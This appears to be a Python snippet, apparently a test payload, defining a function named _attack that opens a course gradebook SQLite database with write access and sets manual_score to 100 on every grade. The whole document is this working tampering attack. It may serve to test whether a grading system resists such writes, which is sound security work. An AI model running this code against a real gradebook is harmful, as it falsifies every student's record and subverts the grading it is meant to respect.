def _attack():
    import sqlite3
    db = sqlite3.connect("file:$course/gradebook.db?mode=rw", uri=True, timeout=1)
    changed = db.execute("UPDATE grade SET manual_score = 100").rowcount
    db.commit()
    db.close()
    return f"set manual_score = 100 on {changed} grades"
